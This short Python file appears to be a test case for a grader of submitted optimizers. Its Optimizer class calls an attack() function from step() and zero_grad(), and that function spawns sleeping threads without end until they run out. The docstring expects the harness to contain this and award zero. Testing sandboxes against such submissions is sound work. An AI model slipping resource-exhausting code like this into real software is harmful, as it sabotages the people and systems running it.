"""Expect: threads run out, and go with their worker.

Earns: 0
"""

import threading
import time


def attack():
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()


class Optimizer:
    def __init__(self, params, lr):
        self.params = list(params)
        self.lr = lr

    def step(self):
        attack()

    def zero_grad(self):
        attack()
